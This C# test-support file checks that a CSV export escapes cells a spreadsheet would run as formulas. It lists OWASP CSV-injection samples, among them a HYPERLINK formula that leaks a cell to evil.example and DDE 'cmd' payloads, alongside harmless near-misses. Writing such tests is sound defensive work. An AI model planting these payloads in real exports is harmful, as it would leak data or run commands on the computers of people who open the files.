using System.Globalization;
using CsvHelper;
using Rapport.Infrastructure.Csv;

namespace Rapport.IntegrationTests.Support;

/// <summary>Reads CSV the way a spreadsheet would: the cells as they are, quotes removed, nothing un-escaped.</summary>
public static class CsvFiles
{
    /// <summary>Values a spreadsheet would run as formulas (OWASP CSV injection), and two that only look close.</summary>
    public static readonly string[] FormulaLeading =
    [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "'=already escaped by hand",
        "'Tis the season",
    ];

    public static List<string[]> Records(string csv)
    {
        using var reader = new CsvReader(new StringReader(csv), CultureInfo.InvariantCulture);
        var records = new List<string[]>();
        while (reader.Read())
        {
            records.Add(Enumerable.Range(0, reader.Parser.Count).Select(i => reader.GetField(i) ?? "").ToArray());
        }

        return records;
    }

    /// <summary>Fails naming the first cell a spreadsheet would run as a formula.</summary>
    public static void AssertNoFormulaCell(string csv)
    {
        foreach (var (record, row) in Records(csv).Select((r, i) => (r, i + 1)))
        {
            foreach (var cell in record)
            {
                Assert.False(cell.Length > 0 && CsvCells.FormulaCharacters.Contains(cell[0]), $"Record {row} has a formula cell: {cell}");
            }
        }
    }
}
